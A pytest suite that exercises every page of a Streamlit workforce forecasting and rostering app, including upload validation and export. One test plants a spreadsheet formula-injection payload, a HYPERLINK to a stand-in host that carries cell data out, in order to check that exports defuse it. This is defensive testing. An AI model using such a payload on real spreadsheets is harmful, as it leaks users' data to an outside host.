"""Every page of the app with Streamlit's AppTest (no browser).

Long steps run in a background thread, as in the browser: the tests click,
then rerun the script until the result is in the session.
"""

import datetime as dt
import time
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

import ui.scenarios
from ui.scenarios import BUSY_MESSAGE, ScenarioStore

APP = str(Path(__file__).resolve().parents[2] / "ui" / "app" / "main.py")


@pytest.fixture()
def at(small_app_data, tmp_path, monkeypatch):
    monkeypatch.setenv("SHIFTCAST_APP_DATA", str(small_app_data))
    monkeypatch.setenv("SHIFTCAST_DATA_DIR", str(tmp_path / "store"))
    app = AppTest.from_file(APP, default_timeout=120)
    app.run()
    assert not app.exception, app.exception
    return app


def rerun(at):
    at.run()
    assert not at.exception, at.exception


def goto(at, page):
    at.switch_page(f"pages/{page}.py")
    rerun(at)


def wait_for(at, done, timeout_s=180):
    """Rerun the script until ``done()`` (a background step finished and was collected)."""
    t0 = time.perf_counter()
    while not done():
        assert time.perf_counter() - t0 < timeout_s, "the background step did not finish"
        time.sleep(0.3)
        rerun(at)


def number(at, label):
    return next(n for n in at.number_input if n.label == label)


def text(at, label):
    return next(t for t in at.text_input if t.label == label)


def button(at, label):
    return next(b for b in at.button if b.label == label)


def metric(at, label):
    return next(m for m in at.metric if m.label == label)


def forecast(at, days=14, backtest=False):
    goto(at, "forecast")
    next(n for n in at.number_input if n.label == "Horizon (days)").set_value(days)
    cb = next(c for c in at.checkbox if c.label == "Backtest")
    cb.check() if backtest else cb.uncheck()
    button(at, "Run forecast").click()
    rerun(at)
    wait_for(at, lambda: "forecast" in at.session_state)


def roster(at, limit_s=10, effort=None):
    goto(at, "roster")
    next(n for n in at.number_input if n.label == "Solver time limit (s)").set_value(limit_s)
    if effort is not None:
        next(n for n in at.number_input if n.label == "Search effort").set_value(effort)
    button(at, "Build roster").click()
    rerun(at)
    wait_for(at, lambda: "roster" in at.session_state)


def test_data_page_shows_what_was_loaded(at):
    assert at.title[0].value == "Data"
    assert {"History", "Contacts", "Channels", "Customer zones", "Agents", "Sites"} <= {m.label for m in at.metric}
    assert metric(at, "Agents").value == "24"
    assert metric(at, "Channels").value == "4"
    loaded = at.table[0].value
    assert list(loaded.index) == ["history", "events", "agents", "time off", "targets", "labour rules", "shift templates"]
    assert "15-minute intervals" in loaded.loc["history", "what was loaded"]
    assert len(at.get("vega_lite_chart")) >= 1
    assert any("Data" in c.value for c in at.sidebar.caption)


def test_pages_before_the_forecast_say_what_to_do(at):
    for page in ("whatif", "staffing", "roster", "export"):
        goto(at, page)
        assert any("forecast" in i.value.lower() for i in at.info), page


def test_forecast_page_with_backtest_zoom_and_totals(at):
    forecast(at, days=14, backtest=True)
    assert not at.error
    assert {"Channel", "Customer zone", "From (UTC)"} <= {s.label for s in at.selectbox}
    subheaders = [s.value for s in at.subheader]
    assert "Backtest accuracy and the model chosen per horizon" in subheaders
    # the choice per horizon: one column per lead-time bucket, a model name and its WAPE in each cell
    choice = next(d.value for d in at.dataframe if "day-ahead" in d.value.columns)
    assert {"channel", "customer zone", "day-ahead", "week-ahead"} <= set(choice.columns)
    assert choice["day-ahead"].str.match(r"^(ets|snaive|prophet)\s+\d+\.\d%$").all()
    # totals over channels and a one-day zoom render without error
    next(s for s in at.selectbox if s.label == "Channel").set_value("all channels")
    rerun(at)
    at.get("button_group")[0].set_value("day")
    rerun(at)
    assert any(m.value.startswith("**all channels, all zones") for m in at.markdown)
    # the display zone follows the sidebar
    at.sidebar.selectbox[0].set_value("America/New_York")
    rerun(at)
    assert any(s.label == "From (America/New_York)" for s in at.selectbox)
    goto(at, "staffing")  # the zone stays when the page changes
    assert at.sidebar.selectbox[0].value == "America/New_York"
    assert any(s.label == "Interval (America/New_York)" for s in at.selectbox)


def test_same_forecast_again_is_instant(at):
    forecast(at, days=7)
    first = at.session_state["forecast"]
    button(at, "Run forecast").click()
    rerun(at)
    assert at.session_state["forecast"] is first  # kept, not recomputed
    assert not at.session_state["jobs"]["forecast"].running


def test_whatif_changes_the_numbers_and_scenarios_persist(at, tmp_path):
    forecast(at)
    goto(at, "whatif")
    number(at, "Expected uplift (x normal volume)").set_value(2.0)
    button(at, "Simulate the event").click()
    rerun(at)
    extra = metric(at, "Extra contacts").value
    assert extra.startswith("+") and extra != "+0"
    assert metric(at, "Extra agent-hours").value.endswith(" h")
    number(at, "Expected uplift (x normal volume)").set_value(3.0)
    button(at, "Simulate the event").click()
    rerun(at)
    assert metric(at, "Extra contacts").value != extra
    assert float(metric(at, "Extra contacts").value.replace(",", "")) > float(extra.replace(",", ""))

    at.text_input(key="wi_save_name").set_value("Triple")
    button(at, "Save scenario").click()
    rerun(at)
    assert any("Saved 'Triple'" in s.value for s in at.success)
    number(at, "Expected uplift (x normal volume)").set_value(1.5)
    text(at, "Event name").set_value("Small sale")
    button(at, "Simulate the event").click()
    rerun(at)
    # the form keeps the last event entered when the planner comes back to the page
    goto(at, "staffing")
    goto(at, "whatif")
    assert number(at, "Expected uplift (x normal volume)").value == 1.5
    assert text(at, "Event name").value == "Small sale"
    at.text_input(key="wi_save_name").set_value("Small sale")
    button(at, "Save scenario").click()
    rerun(at)
    saved = next(d.value for d in at.dataframe if "saved (UTC)" in d.value.columns)
    assert set(saved["name"]) == {"Triple", "Small sale"}

    # persisted in DuckDB: a new store on the same file sees both
    store = ScenarioStore(tmp_path / "store" / "scenarios.duckdb")
    assert set(store.names()) == {"Triple", "Small sale"}

    # open one back into the form, rename, delete
    at.selectbox(key="wi_target").set_value(store.list().set_index("name").loc["Triple", "id"])
    button(at, "Open").click()
    rerun(at)
    assert number(at, "Expected uplift (x normal volume)").value == 3.0
    assert text(at, "Event name").value == "Flash sale"
    at.text_input(key="wi_new_name").set_value("Triple uplift")
    rerun(at)
    button(at, "Rename to 'Triple uplift'").click()
    rerun(at)
    assert set(store.names()) == {"Triple uplift", "Small sale"}
    button(at, "Delete").click()
    rerun(at)
    assert store.names() == ["Small sale"]


def test_whatif_save_never_replaces_another_scenario_silently(at, tmp_path, monkeypatch, hold_file):
    forecast(at)
    goto(at, "whatif")
    button(at, "Simulate the event").click()
    rerun(at)
    assert at.text_input(key="wi_save_name").value == "Flash sale"
    button(at, "Save scenario").click()
    rerun(at)
    assert any("Saved 'Flash sale'" in s.value for s in at.success)
    # a new simulation: the name field takes the new event's name, so the next save adds a scenario
    text(at, "Event name").set_value("Small sale")
    number(at, "Expected uplift (x normal volume)").set_value(1.2)
    button(at, "Simulate the event").click()
    rerun(at)
    assert at.text_input(key="wi_save_name").value == "Small sale"
    button(at, "Save scenario").click()
    rerun(at)
    store = ScenarioStore(tmp_path / "store" / "scenarios.duckdb")
    assert sorted(store.names()) == ["Flash sale", "Small sale"]

    # saving under another scenario's name asks first; Cancel keeps it, Replace replaces that one only
    flash = store.id_of("Flash sale")
    at.text_input(key="wi_save_name").set_value("Flash sale")
    button(at, "Save scenario").click()
    rerun(at)
    assert any("already named 'Flash sale'" in w.value for w in at.warning)
    assert store.get(flash)["event"]["uplift"] != 1.2
    button(at, "Cancel").click()
    rerun(at)
    assert not at.warning and store.get(flash)["event"]["uplift"] != 1.2
    button(at, "Save scenario").click()
    rerun(at)
    button(at, "Replace 'Flash sale'").click()
    rerun(at)
    assert any("Replaced 'Flash sale'" in s.value for s in at.success)
    assert store.get(flash)["event"]["uplift"] == 1.2 and sorted(store.names()) == ["Flash sale", "Small sale"]

    # opening a scenario makes it the open one: its name is in the field and a save replaces it without asking
    at.selectbox(key="wi_target").set_value(store.id_of("Small sale"))
    rerun(at)
    button(at, "Open").click()
    rerun(at)
    assert at.text_input(key="wi_save_name").value == "Small sale"
    button(at, "Save scenario").click()
    rerun(at)
    assert any("Replaced 'Small sale'" in s.value for s in at.success) and not at.warning

    # a rename onto a taken name, and a store another program holds, are messages, not tracebacks
    at.text_input(key="wi_new_name").set_value("Flash sale")
    rerun(at)
    button(at, "Rename to 'Flash sale'").click()
    rerun(at)
    assert any("Could not rename the scenario: a scenario named 'Flash sale' already exists" in e.value for e in at.error)
    monkeypatch.setattr(ui.scenarios, "DEFAULT_BUSY_TIMEOUT_S", 0.3)
    holder = hold_file(tmp_path / "store" / "scenarios.duckdb", "until-stdin")
    try:
        button(at, "Delete").click()
        rerun(at)
        errors = [e.value for e in at.error]
        assert any("Could not delete the scenario: " + BUSY_MESSAGE in e for e in errors), errors
        assert any("The saved scenarios cannot be shown: " + BUSY_MESSAGE in e for e in errors), errors
    finally:
        holder.communicate("\n", timeout=60)
    assert sorted(store.names()) == ["Flash sale", "Small sale"]


def test_whatif_page_says_what_the_store_upgrade_removed(at, tmp_path):
    import duckdb

    (tmp_path / "store").mkdir(exist_ok=True)
    with duckdb.connect(str(tmp_path / "store" / "scenarios.duckdb")) as con:  # a store saved before names were unique
        con.execute("""CREATE TABLE scenarios (id VARCHAR PRIMARY KEY, name VARCHAR NOT NULL, saved_at VARCHAR NOT NULL,
                       event JSON NOT NULL, results JSON NOT NULL)""")
        con.executemany("INSERT INTO scenarios VALUES (?, 'Sale', ?, '{}', '{}')", [("a", "2026-11-01T10:00:00"), ("b", "2026-11-02T10:00:00")])
    forecast(at)
    goto(at, "whatif")
    assert any("1 older scenario(s)" in w.value and "'Sale'" in w.value for w in at.warning)
    assert ScenarioStore(tmp_path / "store" / "scenarios.duckdb").id_of("Sale") == "b"


def test_staffing_page_explains_and_restaffs(at):
    forecast(at)
    goto(at, "staffing")
    text = "\n".join(m.value for m in at.markdown)
    assert "agents to schedule" in text and "Erlangs" in text
    assert "peak correction" in text
    before = at.session_state["requirements"]["agents_required"].sum()
    # peak correction (on by default) changes the numbers when turned off
    at.toggle[0].set_value(False)
    button(at, "Recompute staffing").click()
    rerun(at)
    assert at.session_state["requirements"]["agents_required"].sum() != before
    assert "peak correction off" in "\n".join(m.value for m in at.markdown)
    at.toggle[0].set_value(True)
    next(s for s in at.selectbox if s.label == "Staff every channel for").set_value("the 90% quantile (volume_hi)")
    button(at, "Recompute staffing").click()
    rerun(at)
    req = at.session_state["requirements"]
    assert req["agents_required"].sum() > before
    assert (req["volume_staffed"] >= req["volume"] - 1e-9).all()
    assert "staffed for the **90% quantile**" in "\n".join(m.value for m in at.markdown)
    # and back to the mean for every channel
    next(s for s in at.selectbox if s.label == "Staff every channel for").set_value("the mean forecast")
    button(at, "Recompute staffing").click()
    rerun(at)
    req = at.session_state["requirements"]
    assert (req["volume_staffed"] == req["volume"]).all()
    assert "staffed for the mean forecast" in "\n".join(m.value for m in at.markdown)
    # a deferred channel explains its backlog
    next(s for s in at.selectbox if s.label == "Channel").set_value("email")
    rerun(at)
    assert "backlog" in "\n".join(m.value for m in at.markdown)


def test_roster_page_kpis_filters_and_export(at):
    forecast(at, days=14)
    roster(at, limit_s=10)
    # the search's work budget is a control of its own, and the page says what ended the search
    assert any(n.label == "Search effort" and n.value == 60 for n in at.number_input)
    assert any("the search was ended by " in c.value for c in at.caption)
    labels = {m.label for m in at.metric}
    assert {"Paid hours", "Cost", "Shifts", "Understaffed (agent-h)", "Overstaffed (agent-h)", "Gap to lower bound",
            "Switches per shift"} <= labels
    # simulated service level per channel, against the target
    assert {f"{c} (target 80%)" for c in ("voice", "chat")} <= labels
    # a channel without contacts in the horizon says so instead of showing a number it cannot have
    assert not any("nan" in str(m.value) or "nan" in str(m.delta or "") for m in at.metric)
    assert any(s.value == "Why it looks like this" for s in at.subheader)
    assert any(m.value.startswith("**shifts of ") for m in at.markdown)
    # filters and the week view
    at.multiselect(key="ro_site").set_value(["Lisbon"])
    at.get("button_group")[0].set_value("whole week")
    rerun(at)
    assert any(m.value.startswith("**the week's shifts of ") for m in at.markdown)

    # the roster as exported, uploaded back unchanged: it keeps every rule and gives the coverage the page shows
    from roster.rostering.export import roster_table

    res = at.session_state["roster"]
    at.file_uploader(key="ro_check_upload").set_value(("mine.csv", roster_table(res.roster).to_csv(index=False).encode(), "text/csv"))
    rerun(at)
    assert any(s.value.startswith("mine.csv keeps every labour rule") for s in at.success), [e.value for e in at.error]
    channels = next(d.value for d in at.dataframe if "required_agent_h" in d.value.columns)
    assert channels["scheduled_agent_h"].sum() == pytest.approx(res.kpis.scheduled_agent_h)

    goto(at, "export")
    labels = [d.label for d in at.get("download_button")]
    for name in ("forecast.csv", "accuracy.csv", "requirements.csv", "roster.csv", "shifts.csv", "roster_deputy.csv", "coverage.csv",
                 "roster.ics", "calendars.zip"):
        assert name in labels
    assert any(label.endswith(".ics") and label != "roster.ics" for label in labels)


def _hand_roster(agent_id, starts):
    """roster.csv rows of one sample agent (full time, Charlotte), one 8.5-hour shift per local start (``YYYY-MM-DD HH:MM``) on email."""
    import pandas as pd

    from roster.io import load_agents, load_rules
    from roster.rostering.export import roster_table
    from tests.roster.rostering.factory import shift_rows

    samples = Path(APP).parents[2] / "data" / "samples"
    lr = load_rules(samples / "rules.toml")
    agent = next(a for a in load_agents(samples / "agents.csv", lr) if a.agent_id == "A001")
    rows = []
    for start in starts:
        ts = pd.Timestamp(start).tz_localize(agent.site_tz)
        rows += shift_rows(agent, ts.date(), ts.tz_convert("UTC"), lr, length_h=8.5, channel="email")
    df = pd.DataFrame(rows).assign(agent_id=agent_id)
    df["start_local"] = [t.tz_convert(agent.site_tz).isoformat() for t in df["start_utc"]]
    df["end_local"] = [t.tz_convert(agent.site_tz).isoformat() for t in df["end_utc"]]
    df["shift_id"] = df["agent_id"] + "-" + df["local_date"]
    return roster_table(df).to_csv(index=False).encode()


def test_roster_page_checks_an_edited_roster_upload(at):
    forecast(at, days=14)
    goto(at, "roster")
    # Monday's shift ends at 22:30, Tuesday's starts at 08:00: 9.5 hours of rest where the rules need 11
    at.file_uploader(key="ro_check_upload").set_value(("edited.csv", _hand_roster("A001", ["2026-11-23 14:00", "2026-11-24 08:00"]), "text/csv"))
    rerun(at)
    assert any("rule violation(s)** in edited.csv" in e.value for e in at.error), [e.value for e in at.error]
    found = next(d.value for d in at.dataframe if "rule" in d.value.columns)
    rest = found[found["rule"] == "minimum rest"]
    assert list(zip(rest["agent"], rest["date"], strict=True)) == [("A001", "2026-11-24")]
    assert any("required_agent_h" in d.value.columns for d in at.dataframe)
    # an agent the team does not have: file, line and agent named, nothing checked
    at.file_uploader(key="ro_check_upload").set_value(("edited.csv", _hand_roster("Z999", ["2026-11-23 08:00"]), "text/csv"))
    rerun(at)
    err = next(e.value for e in at.error if "edited.csv" in e.value)
    assert "edited.csv, line 2, column 'agent_id': agent 'Z999', 2026-11-23: unknown agent_id" in err, err


def test_roster_page_refuses_a_previous_roster_for_other_agents(at):
    forecast(at, days=14)
    goto(at, "roster")
    bad = ("agent_id,site_tz,local_date,activity,channel,start_utc,end_utc,start_local,end_local,paid_h,shift_id\n"
           "Z9,America/New_York,2026-11-29,shift,voice,2026-11-29T22:00:00Z,2026-11-30T06:30:00Z,,,8.0,Z9-2026-11-29\n")
    at.file_uploader(key="previous_roster").set_value(("last_week.csv", bad.encode(), "text/csv"))
    button(at, "Build roster").click()
    rerun(at)
    err = at.error[0].value
    assert "last_week.csv, line 2, column 'agent_id'" in err and "'Z9'" in err and "no roster was built" in err
    assert "roster" not in at.session_state and not at.exception


def test_bad_uploads_show_file_line_column_and_keep_the_last_good_data(at, small_app_data):
    at.file_uploader(key="up_history").set_value(("my_history.csv", b"when,channel,tz,count\n2026-01-01T00:00:00Z,voice,UTC,3\n", "text/csv"))
    button(at, "Validate and load uploads").click()
    rerun(at)
    err = at.error[0].value
    assert "my_history.csv" in err and "found columns: when, channel, tz, count" in err
    assert "the last good data stays loaded" in err
    assert metric(at, "Agents").value == "24"

    # wrong encoding: Latin-1 bytes in an agents file, reported with its line
    agents = (small_app_data / "agents.csv").read_text().splitlines()
    agents[3] = agents[3].replace(agents[3].split(",")[1], "Zoë Müller")
    at.file_uploader(key="up_history").set_value(None)
    at.file_uploader(key="up_agents").set_value(("team.csv", ("\n".join(agents) + "\n").encode("latin-1"), "text/csv"))
    button(at, "Validate and load uploads").click()
    rerun(at)
    err = at.error[0].value
    assert "team.csv, line 4" in err and "UTF-8" in err
    assert metric(at, "Agents").value == "24"

    # a bad value: file, line and column
    rows = (small_app_data / "agents.csv").read_text().splitlines()
    header = rows[0].split(",")
    cells = rows[2].split(",")
    cells[header.index("contract")] = "zero_hours"
    rows[2] = ",".join(cells)
    at.file_uploader(key="up_agents").set_value(("team.csv", ("\n".join(rows) + "\n").encode(), "text/csv"))
    button(at, "Validate and load uploads").click()
    rerun(at)
    err = at.error[0].value
    assert "team.csv, line 3, column 'contract'" in err
    assert metric(at, "Agents").value == "24"

    # a good upload (one more agent) replaces the data
    good = (small_app_data / "agents.csv").read_text().splitlines()
    good.append(good[1].replace(good[1].split(",")[0], "A999", 1))
    at.file_uploader(key="up_agents").set_value(("team.csv", ("\n".join(good) + "\n").encode(), "text/csv"))
    button(at, "Validate and load uploads").click()
    rerun(at)
    assert not at.error, at.error[0].value
    assert metric(at, "Agents").value == "25"
    assert any("Loaded: team.csv" in s.value for s in at.success)


def test_too_large_upload_is_refused_with_the_limit(small_app_data, tmp_path, monkeypatch):
    monkeypatch.setenv("SHIFTCAST_MAX_UPLOAD_MB", "0.001")
    monkeypatch.setenv("SHIFTCAST_APP_DATA", str(small_app_data))
    monkeypatch.setenv("SHIFTCAST_DATA_DIR", str(tmp_path / "store"))
    at = AppTest.from_file(APP, default_timeout=120)
    rerun(at)
    at.file_uploader(key="up_events").set_value(("events.csv", b"event,kind,start,end\n" + b"x" * 5000, "text/csv"))
    button(at, "Validate and load uploads").click()
    rerun(at)
    err = at.error[0].value
    assert "events.csv" in err and "the limit is 0.001 MB" in err
    assert metric(at, "Agents").value == "24"


def test_export_page_writes_an_event_named_like_a_formula_formula_safe(small_app_data, tmp_path, monkeypatch):
    import shutil

    data = tmp_path / "data"
    shutil.copytree(small_app_data, data)
    formula = '=HYPERLINK("http://x.example/?"&A1;"click")'
    with open(data / "events.csv", "a") as fh:
        fh.write('"' + formula.replace('"', '""') + '",flash_sale,2026-11-24T15:00:00Z,2026-11-24T20:00:00Z,all,all,1.5,0,0\n')
    monkeypatch.setenv("SHIFTCAST_APP_DATA", str(data))
    monkeypatch.setenv("SHIFTCAST_DATA_DIR", str(tmp_path / "store"))
    app = AppTest.from_file(APP, default_timeout=120)
    rerun(app)
    forecast(app, days=7)
    goto(app, "export")
    assert "forecast.csv" in [d.label for d in app.get("download_button")]
    files = app.session_state["_memo"]["export_forecast"][1]
    import io

    import pandas as pd

    f = pd.read_csv(io.BytesIO(files["forecast.csv"]), keep_default_na=False, dtype=str)
    marked = f[f["events"].str.contains("HYPERLINK", regex=False)]
    assert len(marked) > 0 and marked["events"].str.startswith("'=HYPERLINK").all()


def test_a_gzip_upload_that_unpacks_beyond_the_limit_is_refused(at, small_app_data, monkeypatch):
    import gzip

    from forecast.io import files

    monkeypatch.setattr(files, "MAX_FILE_BYTES", 300_000)
    assert (small_app_data / "history.csv").stat().st_size > 300_000
    packed = gzip.compress((small_app_data / "history.csv").read_bytes())
    at.file_uploader(key="up_history").set_value(("history.csv.gz", packed, "application/gzip"))
    button(at, "Validate and load uploads").click()
    rerun(at)
    err = at.error[0].value
    assert "history.csv.gz" in err and "unpacks to more than 0.3 MB; the limit is 0.3 MB of uncompressed data per file" in err
    assert metric(at, "Agents").value == "24"


def test_an_upload_with_thousands_of_bad_rows_counts_them_all_and_lists_the_first(at):
    rows = "".join("2026-01-01T00:00:00Z,voice,UTC,lots,300\n" for _ in range(5000))
    at.file_uploader(key="up_history").set_value(("h.csv", ("ds,channel,tz,volume,aht_s\n" + rows).encode(), "text/csv"))
    button(at, "Validate and load uploads").click()
    rerun(at)
    err = at.error[0].value
    assert "5,000 problems" in err and "... and 4,980 more problem(s) (the first 20 in the table below)" in err
    assert metric(at, "Agents").value == "24"


def test_roster_weeks_past_the_forecast_give_a_clear_message(at):
    forecast(at, days=7)  # a week from Sunday 00:00 UTC: no whole site-local week at both sites
    goto(at, "roster")
    button(at, "Build roster").click()
    rerun(at)
    assert not at.exception
    err = at.error[0].value
    assert "The roster cannot be built for these weeks" in err
    assert "no whole roster week at every site: choose a longer forecast horizon" in err
    assert "roster" not in at.session_state and not at.session_state["jobs"].get("roster")


def test_an_upload_lists_every_problem_of_every_file(at, small_app_data):
    def spoil(name, lines, column, value):
        rows = (small_app_data / name).read_text().splitlines()
        header = rows[0].split(",")
        for line in lines:
            cells = rows[line - 1].split(",")
            cells[header.index(column)] = value
            rows[line - 1] = ",".join(cells)
        return ("\n".join(rows) + "\n").encode()

    at.file_uploader(key="up_agents").set_value(("team.csv", spoil("agents.csv", [3, 5], "contract", "zero_hours"), "text/csv"))
    at.file_uploader(key="up_history").set_value(("calls.csv", spoil("history.csv", [6], "aht_s", "-3"), "text/csv"))
    button(at, "Validate and load uploads").click()
    rerun(at)
    err = at.error[0].value
    assert "3 problems" in err
    for where in ("team.csv, line 3, column 'contract'", "team.csv, line 5, column 'contract'", "calls.csv, line 6, column 'aht_s'"):
        assert where in err
    table = next(d.value for d in at.dataframe if "problem" in d.value.columns)
    assert len(table) == 3 and set(table["file"]) == {"team.csv", "calls.csv"}
    assert metric(at, "Agents").value == "24"

    # more problems than shown: the first ones listed by name and in the table, the rest counted
    many = list(range(2, 2 + 22))  # 22 of the 24 agents
    at.file_uploader(key="up_history").set_value(None)
    at.file_uploader(key="up_agents").set_value(("team.csv", spoil("agents.csv", many, "contract", "zero_hours"), "text/csv"))
    button(at, "Validate and load uploads").click()
    rerun(at)
    err = at.error[0].value
    assert "22 problems" in err and "... and 2 more problem(s) (the first 20 in the table below)" in err
    assert err.count("\n- team.csv") == 20
    # only the problems shown are built (a file of millions of bad rows must not build millions of objects)
    assert len(next(d.value for d in at.dataframe if "problem" in d.value.columns)) == 20


def test_money_durations_and_dates_say_their_unit_and_zone(at):
    loaded = at.table[0].value
    assert "24.00 USD/h" in loaded.loc["labour rules", "what was loaded"]  # the sample's rules name USD
    assert "email 90% in 4 h" in loaded.loc["targets", "what was loaded"]  # not "14400 s"
    assert "Sun 2026-09-27 00:00" in loaded.loc["history", "what was loaded"]
    forecast(at, days=14)
    goto(at, "staffing")
    next(s for s in at.selectbox if s.label == "Channel").set_value("email")
    rerun(at)
    text = "\n".join(m.value for m in at.markdown)
    assert "within 4 h**" in text and "14400" not in text
    goto(at, "whatif")
    button(at, "Simulate the event").click()
    rerun(at)
    assert metric(at, "Extra cost").value.endswith(" USD")


def test_the_forecast_zoom_stays_on_its_day_when_the_zone_changes(at):
    forecast(at, days=14)
    at.get("button_group")[0].set_value("day")
    rerun(at)
    frm = next(s for s in at.selectbox if s.label == "From (UTC)")
    frm.set_value(dt.date(2026, 11, 27))
    rerun(at)
    at.sidebar.selectbox[0].set_value("America/New_York")
    rerun(at)
    frm = next(s for s in at.selectbox if s.label == "From (America/New_York)")
    assert frm.value == dt.date(2026, 11, 27)  # the same Friday, not the first date (a 5-hour stub of Saturday evening)
    assert dt.date(2026, 11, 21) not in frm.options  # no partial first day to start a view on
    assert at.get("button_group")[0].value == "day"


def test_today_page_before_the_forecast_says_what_to_do(at):
    goto(at, "today")
    assert any("forecast" in i.value.lower() for i in at.info)


def _today_actuals(at, ratio=2.0, until="10:00", channel=None) -> bytes:
    """Today's contacts (the roster's first local date, New York time) up to ``until``, ``ratio`` times the forecast."""
    import pandas as pd

    fc = at.session_state["forecast"].forecast
    day = min(at.session_state["roster"].roster["local_date"].astype(str))
    start = pd.Timestamp(day, tz="America/New_York").tz_convert("UTC")
    now = pd.Timestamp(f"{day} {until}", tz="America/New_York").tz_convert("UTC")
    a = fc[(fc["ds"] >= start) & (fc["ds"] < now)][["ds", "channel", "tz", "volume"]].copy()
    a["volume"] = a["volume"] * ratio
    if channel:
        a["channel"] = channel
    a["ds"] = a["ds"].dt.strftime("%Y-%m-%dT%H:%M:%SZ")
    return a.to_csv(index=False).encode()


@pytest.mark.slow
def test_today_page_reforecasts_and_suggests_actions(at):
    forecast(at, days=14)
    roster(at, limit_s=10)
    goto(at, "today")
    at.file_uploader(key="td_actuals").set_value(("today.csv", _today_actuals(at, channel="fax"), "text/csv"))
    button(at, "Reforecast").click()
    rerun(at)
    # a channel the forecast does not have: the file, line and column, and nothing computed
    shown = " ".join(e.value for e in at.error) + " ".join(str(d.value.to_dict()) for d in at.dataframe)
    assert "today.csv, line 2, column 'channel'" in shown and "unknown channel 'fax'" in shown
    assert "today" not in at.session_state
    at.file_uploader(key="td_actuals").set_value(("today.csv", _today_actuals(at), "text/csv"))
    button(at, "Reforecast").click()
    rerun(at)
    assert any(s.value.startswith("Reforecast at ") for s in at.success)
    ref = at.session_state["today"]["reforecast"]
    assert (ref.factors["factor"] >= 1).all() and (ref.factors["factor"] > 1).any()
    assert {"Contacts so far", "Rest of today, reforecast", "Required (agent-h)", "Intervals below target"} <= {m.label for m in at.metric}
    assert any(s.value.startswith("What to do: ") for s in at.subheader)
    labels = [d.label for d in at.get("download_button")]
    assert labels == ["reforecast.csv", "reforecast_factors.csv", "intraday.csv", "intraday_actions.csv"]
    assert len(at.get("vega_lite_chart")) >= 2


def test_whatif_plans_for_a_saved_scenario_and_flags_its_result_stale(at, tmp_path):
    from roster.planning.adopt import roster_fingerprint

    forecast(at, days=14)
    goto(at, "whatif")
    assert not any(b.label.startswith("Plan for") for b in at.button)  # nothing saved yet
    number(at, "Expected uplift (x normal volume)").set_value(2.5)
    button(at, "Simulate the event").click()
    rerun(at)
    at.text_input(key="wi_save_name").set_value("Flash")
    button(at, "Save scenario").click()
    rerun(at)
    # no roster yet: the page says what to do first
    assert any("Build a roster" in i.value and "planned for on top of it" in i.value for i in at.info)
    # both rosters end on their search effort, not on the time limit: the same roster every run, and two different ones
    roster(at, limit_s=120, effort=20)
    goto(at, "whatif")
    button(at, "Plan for 'Flash'").click()
    rerun(at)
    wait_for(at, lambda: "adopted" in at.session_state)
    rerun(at)
    assert any(s.value == "Planned for 'Flash'" for s in at.subheader)
    assert {"Extra paid hours", "Extra agent-hours in the event", "Shifts"} <= {m.label for m in at.metric}
    sl = next(d.value for d in at.dataframe if "SL, adopted roster" in d.value.columns)
    assert sl["SL, adopted roster"].notna().any()  # a channel without contacts in the event has none (n/a)
    assert {"roster.csv", "shifts.csv", "event_service_level.csv"} <= {b.label for b in at.get("download_button")}
    # the figures are kept with the scenario, current for this roster
    store = ScenarioStore(tmp_path / "store" / "scenarios.duckdb")
    saved = store.list().set_index("name").loc["Flash", "results"]
    assert saved["adopted"]["base_fingerprint"] == at.session_state["adopted"]["result"].base_fingerprint
    table = next(d.value for d in at.dataframe if "saved (UTC)" in d.value.columns)
    assert table.set_index("name").loc["Flash", "planned"] == "current"
    # the Export page offers the adopted roster too
    goto(at, "export")
    assert any(s.value == "What-if scenario planned for: 'Flash'" for s in at.subheader)
    assert any(b.label == "event_service_level.csv" for b in at.get("download_button"))
    goto(at, "whatif")

    # another roster (less search effort): the saved result is stale, the page says so while it is re-planned
    before = at.session_state["roster_id"]
    goto(at, "roster")
    next(n for n in at.number_input if n.label == "Search effort").set_value(10)
    button(at, "Build roster").click()
    rerun(at)
    wait_for(at, lambda: at.session_state["roster_id"] != before)
    assert roster_fingerprint(at.session_state["roster"].roster) != saved["adopted"]["base_fingerprint"]
    goto(at, "whatif")
    if at.session_state["jobs"]["refresh"].running:
        table = next(d.value for d in at.dataframe if "saved (UTC)" in d.value.columns)
        assert table.set_index("name").loc["Flash", "planned"].startswith("stale")
        assert any("stale" in w.value and "re-planned" in w.value for w in at.warning)
        assert any(b.label == "Plan for 'Flash' again (the roster changed)" for b in at.button)
    # ... and it is re-planned on the new roster in the background, without a click: then current again
    assert at.session_state["jobs"]["refresh"].params["names"] == ["Flash"]
    wait_for(at, lambda: "refreshed" in at.session_state)
    rerun(at)
    assert [d.name for d in at.session_state["refreshed"]["done"] if d.refreshed] == ["Flash"], at.session_state["refreshed"]["done"]
    table = next(d.value for d in at.dataframe if "saved (UTC)" in d.value.columns)
    assert table.set_index("name").loc["Flash", "planned"] == "current"
    fingerprint = roster_fingerprint(at.session_state["roster"].roster)
    assert store.list().set_index("name").loc["Flash", "results"]["adopted"]["base_fingerprint"] == fingerprint
    assert any("Re-planned on the current roster" in s.value and "'Flash'" in s.value for s in at.success)
    # once per roster: the next page load starts nothing
    rerun(at)
    assert not at.session_state["jobs"]["refresh"].running


def test_a_parquet_history_upload_is_validated_and_named_by_its_row(at, small_app_data):
    import io

    import pandas as pd

    history = pd.read_csv(small_app_data / "history.csv.gz" if (small_app_data / "history.csv.gz").exists() else small_app_data / "history.csv")
    bad = history.head(50).copy()
    bad.loc[4, "channel"] = "fax"
    buf = io.BytesIO()
    bad.to_parquet(buf, index=False)
    at.file_uploader(key="up_history").set_value(("my_history.parquet", buf.getvalue(), "application/octet-stream"))
    button(at, "Validate and load uploads").click()
    rerun(at)
    err = at.error[0].value
    assert "my_history.parquet, row 5, column 'channel': unknown channel 'fax'" in err
    good = io.BytesIO()
    history.to_parquet(good, index=False)
    at.file_uploader(key="up_history").set_value(("my_history.parquet", good.getvalue(), "application/octet-stream"))
    button(at, "Validate and load uploads").click()
    rerun(at)
    assert not at.error


@pytest.mark.slow
def test_roster_page_closes_the_gap_and_rerosters_with_the_accepted_ones(at):
    forecast(at, days=14)
    roster(at, limit_s=10)
    if at.session_state["roster"].kpis.under_agent_h <= 0:
        pytest.skip("this roster is not short")
    assert any(s.value == "How to close the gap" for s in at.subheader)
    button(at, "Find what closes the gap").click()
    rerun(at)
    wait_for(at, lambda: "gap" in at.session_state, timeout_s=400)
    gap = at.session_state["gap"]["result"]
    assert gap.recommendations, gap.notes
    assert any(m.value.startswith("This roster is **") for m in at.markdown)
    assert "recommended_agents.csv (accepted)" in [d.label for d in at.get("download_button")]
